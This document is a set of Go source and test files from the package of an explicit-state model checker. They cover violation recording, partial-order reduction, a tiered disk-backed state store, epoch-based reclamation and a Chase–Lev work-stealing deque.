	d := digest{h1: fnv1a(buf)}
	if e.needH2 {
		d.h2 = hash2(buf)
	}
	return d, buf
}

func (e *engine) getBuf() *[]byte  { return e.bufs.Get().(*[]byte) }
func (e *engine) putBuf(b *[]byte) { e.bufs.Put(b) }

// record registers a violation if its (property, detail) pair is new,
// reporting whether it was recorded. The trail is copied. The
// MaxViolations cap is enforced here, under the lock, so concurrent
// workers can never overshoot it between their own limit checks.
//
// Callers that must pay to construct the trail (the frontier
// strategies rebuild it from parent links per violation) should call
// reserve first and build the trail only for accepted violations —
// on violation-dense state spaces almost every hit is a duplicate, and
// constructing trails for them is pure allocation churn.
func (e *engine) record(v Violation, trail []TrailStep, depth int) bool {
	if !e.reserve(v) {
		return false
	}
	copied := append([]TrailStep(nil), trail...)
	e.commit(v, copied, depth)
	return true
}

// reserve is phase 1 of recording: dedup + reserve a slot against the
// MaxViolations cap, under the lock. A true return obliges the caller
// to commit the violation.
func (e *engine) reserve(v Violation) bool {
	key := v.Property + "\x00" + v.Detail
	e.mu.Lock()
	if e.distinct[key] ||
		(e.opts.MaxViolations > 0 && e.reserved >= e.opts.MaxViolations) {
		e.mu.Unlock()
		return false
	}
	e.distinct[key] = true
	e.reserved++
	e.mu.Unlock()
	e.violCount.Add(1)
	return true
}

// commit is phase 2: materialize the trail (forward replay —
// potentially a full re-execution per step) outside the lock, without
// serializing other workers behind it, then append the result. commit
// takes ownership of trail.
func (e *engine) commit(v Violation, trail []TrailStep, depth int) {
	e.materialize(trail)
	e.mu.Lock()
	e.found = append(e.found, Found{
		Violation: v,
		Trail:     trail,
		Depth:     depth,
	})
	e.mu.Unlock()
}

// materialize resolves lazy trail steps in place by replaying forward:
// the first step carries its source state, each replay returns the
// successor the next step starts from. Steps whose chain is broken (an
// eagerly recorded, keyless step in the middle of a parallel trail)
// degrade to label-only. Runs outside the engine lock, only for
// genuinely new violations — duplicates are rejected before reaching
// it.
func (e *engine) materialize(ts []TrailStep) {
	var cur State
	for i := range ts {
		if ts[i].From != nil {
			cur = ts[i].From
		}
		replayed := false
		if e.replayer != nil && ts[i].Steps == nil && ts[i].Key != 0 && cur != nil {
			label, steps, next := e.replayer.Replay(cur, ts[i].Key)
			if ts[i].Label == "" {
				ts[i].Label = label
			}
			if steps == nil {
				steps = []string{}
			}
			ts[i].Steps = steps
			cur = next
			replayed = true
		}
		if !replayed {
			if ts[i].Steps == nil {
				ts[i].Steps = []string{}
			}
			cur = nil // successor unknown: later keyed steps degrade to labels
		}
		ts[i].From, ts[i].Key = nil, 0
	}
}

// limitHit reports whether a search limit has been reached. Strategies
// must consult it after every recorded violation and explored state —
// not only per iteration — so MaxViolations and Deadline cannot be
// overshot by a whole expansion.
func (e *engine) limitHit() bool {
	if e.opts.Stop != nil && e.opts.Stop.Load() {
		return true
	}
	if e.opts.MaxStates > 0 && int(e.explored.Load()) >= e.opts.MaxStates {
		return true
	}
	if e.opts.Deadline > 0 && time.Since(e.start) > e.opts.Deadline {
		return true
	}
	if e.opts.MaxViolations > 0 && int(e.violCount.Load()) >= e.opts.MaxViolations {
		return true
	}
	return false
}

// expand returns the successors of state to explore: the system's full
// successor list, reduced to a persistent subset when partial-order
// reduction selects one at this state. Every strategy expands through
// this path, so all three explore the same reduced graph.
//
// The cycle/visited-state proviso is enforced here, so no violation
// reachable through a pruned interleaving can be masked by the ignoring
// problem (a transition postponed around a cycle forever). Reducers
// that certify progress (ProgressCertifier) have proved no reduced
// cycle can traverse a subset transition, which discharges the proviso
// structurally. For any other reducer a proper subset is accepted only
// if at least one of its successors is not already in the visited
// store: otherwise every subset transition closes back into explored
// territory and the engine falls back to the full expansion. (The
// probe digests each selected successor a second time — expandShared
// re-digests them for the store insert — but only uncertified reducers
// pay it, and only on accepted reductions; the model's certified
// reducer skips the probe entirely.)
//
// count is false on the work-stealing strategy's depth-relaxation
// re-expansions: those must replay exactly the subset the counted
// expansion explored — for a certified reducer, Reduce is a pure
// function of the state, so re-running it yields the identical subset;
// the reduction counters are suppressed so statistics count each choice
// point once. Uncertified reducers never reach here with count=false
// (the steal strategy disables relaxation for them): their proviso
// consults the visited store, whose contents have changed since the
// counted expansion, so a replay could diverge from the counted graph.
func (e *engine) expand(state State, buf []byte, count bool) ([]Transition, []byte) {
	trs := e.sys.Expand(state)
	if e.reducer == nil || len(trs) < 2 {
		e.noteFaults(trs, count)
		return trs, buf
	}
	sel := e.reducer.Reduce(state, trs)
	if len(sel) == 0 || len(sel) >= len(trs) {
		e.noteFaults(trs, count)
		return trs, buf
	}
	if !e.certified {
		fresh := false
		for _, i := range sel {
			var d digest
			d, buf = e.digest(trs[i].Next, buf)
			if !e.st.peek(d) {
				fresh = true
				break
			}
		}
		if !fresh {
			e.porFallback.Add(1)
			e.noteFaults(trs, count)
			return trs, buf
		}
	}
	if count {
		e.porChoices.Add(1)
		e.porPruned.Add(int64(len(trs) - len(sel)))
	}
	// Compact the selected transitions to the front of trs in place (sel
	// is ascending, so every move is leftward) instead of allocating a
	// fresh slice: the caller's strategy recycles the one backing array
	// when it has consumed the subset, exactly as for an unreduced
	// expansion. Pruned transitions never leave this expansion on any
	// strategy, so their freshly cloned states go straight back to the
	// free-list.
	if e.rec != nil {
		j := 0
		for i := range trs {
			if j < len(sel) && sel[j] == i {
				j++
				continue
			}
			e.rec.Recycle(trs[i].Next)
			trs[i].Next = nil
		}
	}
	for j, i := range sel {
		trs[j] = trs[i]
	}
	out := trs[:len(sel)]
	e.noteFaults(out, count)
	return out, buf
}

// statCell batches one worker's explored/matched counts off the shared
// atomics. Each worker goroutine keeps its own cell (stack-local — no
// sharing, no padding needed) and folds it into the engine totals at
// termination plus periodically, so the per-state counter cost on the
// frontier hot paths is two local increments instead of contended
// read-modify-writes. With MaxStates set, explored folds on every bump
// so limitHit sees the exact global count — truncation semantics are
// unchanged from the per-state atomics.
type statCell struct {
	explored int64
	matched  int64
}

// statFlushEvery bounds how many explored states a worker accumulates
// locally on unbounded searches before folding into the shared counter.
const statFlushEvery = 32

func (sc *statCell) bumpExplored(e *engine) {
	sc.explored++
	if e.opts.MaxStates > 0 || sc.explored >= statFlushEvery {
		e.explored.Add(sc.explored)
		sc.explored = 0
	}
}

// flush folds the residues into the engine totals. Workers flush on
// exit (before the strategy's WaitGroup releases the main goroutine),
// so Result totals are exact.
func (sc *statCell) flush(e *engine) {
	if sc.explored != 0 {
		e.explored.Add(sc.explored)
		sc.explored = 0
	}
	if sc.matched != 0 {
		e.matched.Add(sc.matched)
		sc.matched = 0
	}
}

// noteFaults adds the fault-flagged transitions in the final successor
// slice of a counted expansion to the run's fault-transition tally
// (re-expansions with count=false replay a counted expansion and must
// not double-count).
func (e *engine) noteFaults(trs []Transition, count bool) {
	if !count {
		return
	}
	n := 0
	for i := range trs {
		if trs[i].Fault {
			n++
		}
	}
	if n > 0 {
		e.faultTrs.Add(int64(n))
	}
}

// noteDepth raises MaxDepthReached to d.
func (e *engine) noteDepth(d int) {
	for {
		cur := e.maxDepth.Load()
		if int64(d) <= cur || e.maxDepth.CompareAndSwap(cur, int64(d)) {
			return
		}
	}
}

// visitInitial stores and inspects the initial state, returning it with
// its digest.
func (e *engine) visitInitial() (State, digest) {
	init := e.sys.Initial()
	buf := e.getBuf()
	d, b := e.digest(init, *buf)
	*buf = b
	e.putBuf(buf)
	if !e.st.seen(d) {
		e.logVisit(d)
	}
	e.explored.Add(1)
	for _, v := range e.sys.Inspect(init) {
		e.record(v, nil, 0)
	}
	return init, d
}

// finish assembles the Result, closing the out-of-core tiers and the
// WAL (the search has fully quiesced by the time a strategy returns).
func (e *engine) finish() *Result {
	var ss StoreStats
	storedOverride := -1
	if e.tiered != nil {
		// Drain the spiller first: a digest mid-spill has its disk
		// record written before its hot entry is deleted, so size()
		// counts it twice until the spiller quiesces. count() and the
		// resident counter stay readable after close tears the tier
		// files down.
		ss = e.tiered.close()
		storedOverride = e.st.size()
	}
	if e.wal != nil {
		ss.CheckpointBytes = e.wal.bytes
		ss.Checkpoints = e.wal.checkpoints
		ss.Resumed = e.wal.resumed
		e.wal.close()
	}
	stored := storedOverride
	if stored < 0 {
		stored = e.st.size()
	}
	return &Result{
		Store:           ss,
		Violations:      e.found,
		StatesExplored:  int(e.explored.Load()),
		StatesMatched:   int(e.matched.Load()),
		StatesStored:    stored,
		MaxDepthReached: int(e.maxDepth.Load()),
		Truncated:       e.truncated.Load(),
		Elapsed:         time.Since(e.start),

		PORChoicePoints:      int(e.porChoices.Load()),
		PORPrunedTransitions: int(e.porPruned.Load()),
		PORFallbacks:         int(e.porFallback.Load()),

		FaultTransitionsExplored: int(e.faultTrs.Load()),
	}
}
