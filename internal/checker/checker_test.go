package checker

import (
	"fmt"
	"testing"
	"testing/quick"
)

// chainState is a toy system: a counter that can be incremented or
// doubled up to a bound; states with value == bad violate. depth is
// part of the state vector because Expand's behavior depends on it —
// omitting it would alias states that expand differently, and the two
// strategies would then legitimately explore different state counts.
type chainState struct{ v, depth int }

func (s *chainState) Encode(buf []byte) []byte {
	return append(buf, byte(s.v), byte(s.v>>8), byte(s.depth))
}

type chainSys struct {
	bound int
	bad   int
}

func (c *chainSys) Initial() State { return &chainState{v: 1} }

func (c *chainSys) Expand(s State) []Transition {
	st := s.(*chainState)
	if st.depth >= c.bound {
		return nil
	}
	mk := func(nv int, label string) Transition {
		return Transition{Label: label, Next: &chainState{v: nv, depth: st.depth + 1}}
	}
	return []Transition{
		mk(st.v+1, fmt.Sprintf("inc->%d", st.v+1)),
		mk(st.v*2, fmt.Sprintf("dbl->%d", st.v*2)),
	}
}

func (c *chainSys) Inspect(s State) []Violation {
	if s.(*chainState).v == c.bad {
		return []Violation{{Property: "bad-value", Detail: fmt.Sprintf("reached %d", c.bad)}}
	}
	return nil
}

func TestFindsViolationWithTrail(t *testing.T) {
	res := Run(&chainSys{bound: 6, bad: 12}, Options{MaxDepth: 10})
	if !res.HasViolation("bad-value") {
		t.Fatalf("violation not found; explored=%d", res.StatesExplored)
	}
	f := res.Violations[0]
	if len(f.Trail) == 0 {
		t.Error("no trail")
	}
	if f.Depth != len(f.Trail) {
		t.Errorf("depth=%d trail=%d", f.Depth, len(f.Trail))
	}
}

func TestDedupPrunesRevisits(t *testing.T) {
	res := Run(&chainSys{bound: 10, bad: -1}, Options{MaxDepth: 16})
	if res.StatesMatched == 0 {
		t.Error("expected matched states (2*2=4 is reachable two ways)")
	}
	nodedup := Run(&chainSys{bound: 10, bad: -1}, Options{MaxDepth: 16, NoDedup: true})
	if nodedup.StatesExplored <= res.StatesExplored {
		t.Errorf("NoDedup explored %d <= dedup %d", nodedup.StatesExplored, res.StatesExplored)
	}
}

func TestBitstateFindsSameViolations(t *testing.T) {
	ex := Run(&chainSys{bound: 8, bad: 24}, Options{MaxDepth: 12})
	bs := Run(&chainSys{bound: 8, bad: 24}, Options{MaxDepth: 12, Store: Bitstate, BitstateBits: 16})
	if ex.HasViolation("bad-value") != bs.HasViolation("bad-value") {
		t.Errorf("exhaustive=%v bitstate=%v", ex.HasViolation("bad-value"), bs.HasViolation("bad-value"))
	}
}

func TestLimitsTruncate(t *testing.T) {
	res := Run(&chainSys{bound: 30, bad: -1}, Options{MaxDepth: 64, MaxStates: 50})
	if !res.Truncated {
		t.Error("expected truncation at MaxStates")
	}
	res = Run(&chainSys{bound: 30, bad: -1}, Options{MaxDepth: 3})
	if res.MaxDepthReached > 3 {
		t.Errorf("depth %d exceeds bound", res.MaxDepthReached)
	}
}

func TestMaxViolationsStopsEarly(t *testing.T) {
	res := Run(&chainSys{bound: 10, bad: 4}, Options{MaxDepth: 16, MaxViolations: 1})
	if len(res.Violations) != 1 {
		t.Errorf("violations = %d, want 1", len(res.Violations))
	}
}

// TestBitstoreNeverFalseNegativeOnFirstInsert: a bitstate store never
// claims an unseen state was seen before any insertions collide
// (property: first insert of any hash returns false).
func TestBitstoreNeverFalseNegativeOnFirstInsert(t *testing.T) {
	f := func(h1, h2 uint64) bool {
		s := newBitStore(16, 3)
		d := digest{h1, h2}
		return !s.seen(d) && s.seen(d)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

// TestHashStoreExact: the exhaustive stores are exact over hashes.
func TestHashStoreExact(t *testing.T) {
	for name, mk := range map[string]func() store{
		"hashStore":        func() store { return &hashStore{m: map[uint64]struct{}{}} },
		"shardedHashStore": func() store { return newShardedHashStore() },
	} {
		f := func(hs []uint64) bool {
			s := mk()
			seen := map[uint64]bool{}
			for _, h := range hs {
				if s.seen(digest{h1: h, h2: h * 3}) != seen[h] {
					return false
				}
				seen[h] = true
			}
			return true
		}
		if err := quick.Check(f, nil); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func TestFormatTrail(t *testing.T) {
	out := FormatTrail(Found{
		Violation: Violation{Property: "p", Detail: "d"},
		Trail: []TrailStep{
			{Label: "ev1", Steps: []string{"a", "b"}},
			{Label: "ev2"},
		},
	})
	for _, want := range []string{"violated: p (d)", "[ev1]", "a", "[ev2]"} {
		if !contains(out, want) {
			t.Errorf("trail missing %q:\n%s", want, out)
		}
	}
}

func contains(s, sub string) bool {
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return true
		}
	}
	return false
}
