package checker

import "sync/atomic"

// Epoch-based reclamation for the work-stealing frontier.
//
// PR 6's StateRecycler free-lists made the sequential DFS hot path
// allocation-free, but the frontier strategies could not join it: a
// state consumed from a Chase–Lev deque has crossed worker boundaries,
// and a thief that loaded the entry pointer during its scavenge pass
// may still hold that pointer after the consumer is done with the
// state. Recycling the state straight into the model's free-list would
// let a later Expand scribble over storage a concurrent steal attempt
// can still see.
//
// The layered safety argument:
//
//  1. The deque's top-CAS discipline already guarantees a thief never
//     *dereferences* a stale entry: steal loads the entry pointer first
//     but uses it only after winning the top CAS, and the CAS fails for
//     any slot a consumer has advanced past. A dereference therefore
//     implies the entry was never consumed — and an unconsumed entry is
//     never retired.
//  2. The epoch layer makes the recycle safe even without leaning on
//     that implication. Every worker passes a quiescent point (the top
//     of its scavenge loop, where it holds no frontier references) and
//     pins the global epoch there. A consumed-and-fully-expanded state
//     is not recycled directly; it is retired into the consuming
//     worker's limbo list stamped with the worker's pinned epoch e, and
//     only handed to StateRecycler.Recycle once the global epoch has
//     advanced twice past e. Advancing requires every online worker —
//     including crew grown and retired dynamically under WorkerBudget —
//     to re-pin, so by reclamation time every steal attempt that was in
//     flight when the state was retired has completed or restarted.
//
// The two layers compose: (1) bounds which stale pointers can ever be
// dereferenced, (2) bounds how long retired storage stays out of the
// free-list, and together no Expand reuse can ever be observed through
// a deque, with or without the race detector.
//
// Epoch bookkeeping is intentionally cheap on the hot path: a pin is
// one load of the global epoch plus at most one store to the worker's
// own padded cell; tryAdvance is a read-only scan of the (small) slot
// array with a single CAS on success; retire is an append to an
// owner-local bucket.

// reclaimEpochLag is how far the global epoch must move past a limbo
// bucket's fill epoch before its states are reclaimed. Two advances
// guarantee every worker online at retire time has re-pinned (passed a
// quiescent point) since: one advance can already be in flight when the
// retiring worker reads the epoch, the second cannot complete without
// every online worker's fresh pin.
const reclaimEpochLag = 2

// limboBucket holds states retired at one epoch, alongside their
// visited-store digests: a retired state is exactly a proven-cold
// state, so its digest is the tiered store's preferred spill candidate
// — drain hands states to the free-list and digests to the spill
// write-behind in the same pass, which is how eviction ordering falls
// out of epoch order for free. Buckets are recycled modulo
// reclaimEpochLag+1: by the time a bucket's index comes around again
// the global epoch has necessarily advanced past its fill epoch by at
// least reclaimEpochLag+1, so refilling it first drains it.
type limboBucket struct {
	epoch   uint64
	states  []State
	digests []digest
}

// reclaimSlot is one worker's view of the reclamation protocol. The
// slot index is the worker's deque index: ownership transfers with the
// deque on retire/respawn (the freeMu publish in strategy_steal.go
// happens strictly after goOffline, so a replacement under the same
// index never shares the slot with its predecessor and inherits any
// limbo states the predecessor could not yet reclaim).
//
//iotsan:padded
type reclaimSlot struct {
	// local is 0 while the slot has no online worker, else the epoch the
	// owner last pinned plus one. Written by the owner, scanned by every
	// worker in tryAdvance; padded so neighbouring slots' pins do not
	// false-share.
	local atomic.Uint64
	_     [56]byte
	limbo [reclaimEpochLag + 1]limboBucket // owner-only
	_pad  [24]byte
}

// reclaimer coordinates epoch-based reclamation for one search. spill,
// when non-nil (tiered store), receives each drained state's digest —
// the write-behind attachment point the out-of-core store evicts
// through.
type reclaimer struct {
	rec    StateRecycler
	spill  func(digest)
	global atomic.Uint64
	slots  []reclaimSlot
}

func newReclaimer(rec StateRecycler, slots int, spill func(digest)) *reclaimer {
	rc := &reclaimer{rec: rec, spill: spill, slots: make([]reclaimSlot, slots)}
	// Start above zero so an empty bucket's zero fill-epoch can never
	// alias a live epoch.
	rc.global.Store(1)
	return rc
}

// online marks slot w as participating; the initial pin is conservative
// (the worker holds no references yet). Owner-only.
func (rc *reclaimer) online(w int) {
	rc.slots[w].local.Store(rc.global.Load() + 1)
}

// offline marks slot w as not participating, so a retired worker cannot
// block epoch advancement forever. The caller must hold no frontier
// references and — on the retire path — must call this strictly before
// publishing its deque index for reuse, or the replacement's pin could
// be wiped. Owner-only.
func (rc *reclaimer) offline(w int) {
	rc.slots[w].local.Store(0)
}

// pin records that worker w is at a quiescent point (it holds no
// references into any deque) and returns the pinned epoch, under which
// the worker's next consumed state is retired. It also opportunistically
// reclaims the worker's limbo buckets whose epochs the world has moved
// past. Owner-only.
func (rc *reclaimer) pin(w int) uint64 {
	s := &rc.slots[w]
	g := rc.global.Load()
	if s.local.Load() != g+1 {
		s.local.Store(g + 1)
	}
	for i := range s.limbo {
		b := &s.limbo[i]
		if len(b.states) > 0 && b.epoch+reclaimEpochLag <= g {
			rc.drain(b)
		}
	}
	return g
}

// retire places a consumed, fully expanded state in w's limbo, stamped
// with the epoch w pinned before consuming it and paired with its
// visited-store digest (the spill candidate drain forwards to the
// tiered store). Owner-only.
//
//iotsan:retires s
func (rc *reclaimer) retire(w int, epoch uint64, s State, d digest) {
	b := &rc.slots[w].limbo[epoch%(reclaimEpochLag+1)]
	if b.epoch != epoch {
		// The bucket index wrapped around: its fill epoch trails the
		// pinned epoch by at least reclaimEpochLag+1, so its states'
		// grace period has long passed.
		if len(b.states) > 0 {
			rc.drain(b)
		}
		b.epoch = epoch
	}
	b.states = append(b.states, s)
	b.digests = append(b.digests, d)
}

// tryAdvance moves the global epoch forward one step if every online
// worker has pinned the current epoch. Lock-free and read-mostly; any
// worker may call it, and losing the CAS just means someone else
// advanced first.
func (rc *reclaimer) tryAdvance() {
	g := rc.global.Load()
	for i := range rc.slots {
		l := rc.slots[i].local.Load()
		if l != 0 && l != g+1 {
			return // an online worker has not pinned epoch g yet
		}
	}
	rc.global.CompareAndSwap(g, g+1)
}

// drain recycles a grace-period-expired bucket's states and, with a
// tiered store attached, hands their digests to the spill write-behind
// — the retired set is exactly the proven-cold set, so this is the one
// place eviction pressure enters in epoch order.
func (rc *reclaimer) drain(b *limboBucket) {
	for i, st := range b.states {
		rc.rec.Recycle(st)
		b.states[i] = nil
	}
	b.states = b.states[:0]
	if rc.spill != nil {
		for _, d := range b.digests {
			rc.spill(d)
		}
	}
	b.digests = b.digests[:0]
}

// drainAll reclaims every limbo state unconditionally. Only safe after
// the search has fully drained (wg.Wait returned): no worker holds any
// frontier reference, so the grace periods are moot.
func (rc *reclaimer) drainAll() {
	for i := range rc.slots {
		for j := range rc.slots[i].limbo {
			rc.drain(&rc.slots[i].limbo[j])
		}
	}
}
