package checker

import (
	"math/rand"
	"sync"
	"testing"
)

// newTestTiered opens a tiered store in a test temp dir with a byte
// budget small enough that the entry budget bottoms out at the
// tieredMinBudget floor — any workload past ~512 distinct fingerprints
// engages eviction and the write-behind spiller.
func newTestTiered(t *testing.T) *tieredStore {
	t.Helper()
	ts, err := newTieredStore(t.TempDir(), 1)
	if err != nil {
		t.Fatal(err)
	}
	return ts
}

// TestTieredStoreExact: the tiered store keeps the exact hash-compact
// contract of the in-memory stores — first seen of an h1 is false,
// every later seen is true — across enough distinct fingerprints that
// most of them spill to the disk tier mid-run.
func TestTieredStoreExact(t *testing.T) {
	ts := newTestTiered(t)
	rng := rand.New(rand.NewSource(1))
	const n = 20000
	digests := make([]digest, n)
	for i := range digests {
		digests[i] = digest{h1: rng.Uint64(), h2: rng.Uint64()}
	}
	// Interleave fresh inserts with probes of older (possibly spilled)
	// fingerprints, so lookups race the spiller's hot-tier deletions.
	for i, d := range digests {
		if ts.seen(d) {
			t.Fatalf("insert %d: fresh digest reported seen", i)
		}
		if !ts.seen(d) {
			t.Fatalf("insert %d: digest lost immediately after insert", i)
		}
		if i > 0 {
			if old := digests[rng.Intn(i)]; !ts.seen(old) {
				t.Fatalf("insert %d: earlier digest lost (spill visibility)", i)
			}
		}
	}
	// size() is exact only once the spiller has drained (a digest
	// mid-spill is briefly counted in both tiers), so check after close.
	st := ts.close()
	if got := ts.size(); got != n {
		t.Errorf("size() = %d, want %d", got, n)
	}
	if st.StoredNew != n {
		t.Errorf("StoredNew = %d, want %d", st.StoredNew, n)
	}
	if st.Spilled == 0 {
		t.Error("no fingerprints spilled — the budget floor never engaged and the test is vacuous")
	}
	// Overshoot above the budget is bounded by the spill queue: each
	// over-budget insert queues one eviction, so resident can lead the
	// write-behind spiller by at most the channel capacity (plus the
	// entry in the spiller's hand).
	if limit := int64(tieredMinBudget + cap(ts.spillCh) + 8); st.PeakResident > limit {
		t.Errorf("peak resident %d exceeds budget floor + spill queue bound %d", st.PeakResident, limit)
	}
}

// TestTieredStoreH1Compact: membership is keyed on h1 alone, exactly
// like hashStore — a second digest with the same h1 and a different h2
// is a hit (recorded as an H1 collision once it compares against the
// disk tier's record).
func TestTieredStoreH1Compact(t *testing.T) {
	ts := newTestTiered(t)
	if ts.seen(digest{h1: 42, h2: 1}) {
		t.Fatal("fresh digest seen")
	}
	if !ts.seen(digest{h1: 42, h2: 99}) {
		t.Fatal("same-h1 digest not seen (hash-compact contract broken)")
	}
	ts.close()
}

// TestTieredStoreConcurrent: many goroutines inserting overlapping
// fingerprint sets must admit each distinct h1 exactly once in total —
// the shard-lock/spiller ordering may move entries between tiers but
// can never double-admit or lose one. Run under -race in CI.
func TestTieredStoreConcurrent(t *testing.T) {
	ts := newTestTiered(t)
	const workers = 8
	const n = 4000
	digests := make([]digest, n)
	rng := rand.New(rand.NewSource(7))
	for i := range digests {
		digests[i] = digest{h1: rng.Uint64(), h2: rng.Uint64()}
	}
	var wg sync.WaitGroup
	fresh := make([]int64, workers)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			r := rand.New(rand.NewSource(int64(w)))
			for _, i := range r.Perm(n) {
				if !ts.seen(digests[i]) {
					fresh[w]++
				}
			}
		}(w)
	}
	wg.Wait()
	var total int64
	for _, f := range fresh {
		total += f
	}
	if total != n {
		t.Errorf("distinct admissions = %d, want %d", total, n)
	}
	st := ts.close() // drain the spiller so size() is exact
	if got := ts.size(); got != n {
		t.Errorf("size() = %d, want %d", got, n)
	}
	if st.Spilled == 0 {
		t.Error("no spill under concurrent pressure — vacuous")
	}
}

// TestDiskTableGrow: inserts past the 60% load factor rebuild into a
// doubled file without losing records.
func TestDiskTableGrow(t *testing.T) {
	dt, err := newDiskTable(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer dt.close()
	const n = (1 << diskTableInitLog) // forces at least one grow
	rng := rand.New(rand.NewSource(3))
	hs := make([]uint64, n)
	for i := range hs {
		hs[i] = rng.Uint64()
		if err := dt.insert(hs[i], hs[i]*3); err != nil {
			t.Fatal(err)
		}
	}
	for i, h := range hs {
		h2, ok := dt.lookup(h)
		if !ok || h2 != h*3 {
			t.Fatalf("record %d lost after grow (ok=%v h2=%d)", i, ok, h2)
		}
	}
	if dt.count() != n {
		t.Errorf("count = %d, want %d", dt.count(), n)
	}
}

// TestDiskTableZeroDigest: the all-zero record encoding (empty slot)
// has an out-of-band existence flag.
func TestDiskTableZeroDigest(t *testing.T) {
	dt, err := newDiskTable(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	defer dt.close()
	if _, ok := dt.lookup(0); ok {
		t.Fatal("empty table claims zero digest")
	}
	if err := dt.insert(0, 0); err != nil {
		t.Fatal(err)
	}
	if _, ok := dt.lookup(0); !ok {
		t.Fatal("zero digest lost")
	}
}

// TestTieredChainEquivalence: complete searches over the chain system
// with the tiered store under heavy spill report the identical
// explored/matched/stored counts and violation sets as the in-memory
// exhaustive store, for every strategy.
func TestTieredChainEquivalence(t *testing.T) {
	sys := &chainSys{bound: 13, bad: 24}
	for _, strat := range []StrategyKind{StrategyDFS, StrategyParallel, StrategySteal} {
		t.Run(strat.String(), func(t *testing.T) {
			base := Options{MaxDepth: 20, Strategy: strat, Workers: 2}
			mem := Run(sys, base)
			tiered := base
			tiered.Store = Tiered
			tiered.StoreDir = t.TempDir()
			tiered.MemBudget = 1
			tr := Run(sys, tiered)
			if mem.StatesExplored != tr.StatesExplored || mem.StatesMatched != tr.StatesMatched ||
				mem.StatesStored != tr.StatesStored {
				t.Errorf("state space diverges: tiered explored=%d matched=%d stored=%d / inmem explored=%d matched=%d stored=%d",
					tr.StatesExplored, tr.StatesMatched, tr.StatesStored,
					mem.StatesExplored, mem.StatesMatched, mem.StatesStored)
			}
			if mem.HasViolation("bad-value") != tr.HasViolation("bad-value") {
				t.Errorf("violations diverge: inmem=%v tiered=%v",
					mem.HasViolation("bad-value"), tr.HasViolation("bad-value"))
			}
			if tr.Store.StoredNew == 0 {
				t.Error("tiered store recorded no admissions — wiring broken")
			}
			if tr.Store.Spilled == 0 && tr.StatesStored > 2*tieredMinBudget {
				t.Errorf("no spill despite %d stored states vs %d-entry budget floor",
					tr.StatesStored, tieredMinBudget)
			}
			t.Logf("stored=%d spilled=%d peak=%d disk-hits=%d filter-rejects=%d",
				tr.Store.StoredNew, tr.Store.Spilled, tr.Store.PeakResident,
				tr.Store.DiskHits, tr.Store.FilterRejects)
		})
	}
}
