package checker

import "sync/atomic"

// wsDeque is a Chase–Lev work-stealing deque specialised to
// *stealEntry. The owning worker pushes and pops at the bottom (LIFO —
// depth-first locally, which keeps the working set hot and the deque
// short), while thieves steal from the top (FIFO — they take the
// oldest, typically shallowest and therefore largest, pieces of work).
//
// The implementation is the classic dynamic circular-array algorithm
// (Chase & Lev, SPAA'05; Lê et al., PPoPP'13 for the memory-model
// treatment). Go's sync/atomic operations are sequentially consistent,
// which subsumes the acquire/release/seq-cst annotations of the C11
// version. Slots hold pointers and the ring is only ever copied on
// growth — never recycled — so the ABA hazards of the in-place variant
// do not arise.
//
// Entry objects, by contrast, ARE recycled (per-worker free-lists in
// strategy_steal.go), which is sound because consumption is
// exactly-once: steal loads the slot pointer before its CAS but
// dereferences it only after winning, and the CAS fails for every slot
// a consumer has advanced top past — so a stale pointer to a recycled
// (even re-pushed) entry is only ever compared, never read through.
// The owner's field writes on reuse are ordered before the re-push's
// atomic slot store, which any successful thief's loads synchronise
// with.
type wsDeque struct {
	bottom atomic.Int64 // next slot the owner pushes to; owner-written
	top    atomic.Int64 // next slot thieves steal from; CAS-advanced
	ring   atomic.Pointer[wsRing]
	// Pad the 24 bytes of fields to a full cache line so per-worker
	// deques packed in a slice do not false-share their hot top/bottom
	// words.
	_ [40]byte
}

// wsRing is one immutable-capacity circular buffer generation.
type wsRing struct {
	mask int64
	buf  []atomic.Pointer[stealEntry]
}

func newWSRing(capacity int64) *wsRing {
	return &wsRing{mask: capacity - 1, buf: make([]atomic.Pointer[stealEntry], capacity)}
}

func (r *wsRing) load(i int64) *stealEntry     { return r.buf[i&r.mask].Load() }
func (r *wsRing) store(i int64, e *stealEntry) { r.buf[i&r.mask].Store(e) }

// grow returns a ring of twice the capacity holding the live range
// [top, bottom). The old ring is left intact: concurrent thieves that
// loaded it keep reading the same entry pointers they would have seen
// before the copy.
func (r *wsRing) grow(top, bottom int64) *wsRing {
	n := newWSRing((r.mask + 1) * 2)
	for i := top; i < bottom; i++ {
		n.store(i, r.load(i))
	}
	return n
}

const wsInitialCap = 256

func newWSDeque() *wsDeque {
	d := &wsDeque{}
	d.ring.Store(newWSRing(wsInitialCap))
	return d
}

// push appends an entry at the bottom. Owner-only.
func (d *wsDeque) push(e *stealEntry) {
	b := d.bottom.Load()
	t := d.top.Load()
	r := d.ring.Load()
	if b-t >= r.mask+1 {
		r = r.grow(t, b)
		d.ring.Store(r)
	}
	r.store(b, e)
	d.bottom.Store(b + 1)
}

// pop removes the most recently pushed entry (LIFO). Owner-only.
// Returns nil when the deque is empty or a thief won the race for the
// last entry.
func (d *wsDeque) pop() *stealEntry {
	b := d.bottom.Load() - 1
	r := d.ring.Load()
	d.bottom.Store(b)
	t := d.top.Load()
	if t > b {
		// Already empty: restore bottom.
		d.bottom.Store(b + 1)
		return nil
	}
	e := r.load(b)
	if b > t {
		return e // more than one entry left; no race possible
	}
	// Single entry: race thieves for it by advancing top.
	if !d.top.CompareAndSwap(t, t+1) {
		e = nil // a thief got it first
	}
	d.bottom.Store(b + 1)
	return e
}

// steal removes the oldest entry (FIFO). Safe for any goroutine.
// retry=true with a nil entry means the CAS lost to a concurrent
// steal/pop and the caller may try again; retry=false means the deque
// was observed empty.
func (d *wsDeque) steal() (e *stealEntry, retry bool) {
	t := d.top.Load()
	b := d.bottom.Load()
	if t >= b {
		return nil, false
	}
	r := d.ring.Load()
	e = r.load(t)
	if !d.top.CompareAndSwap(t, t+1) {
		return nil, true
	}
	return e, true
}

// size reports a racy snapshot of the entry count (monitoring only).
func (d *wsDeque) size() int64 {
	n := d.bottom.Load() - d.top.Load()
	if n < 0 {
		return 0
	}
	return n
}
