// Package checker is the explicit-state safety model checker at the core
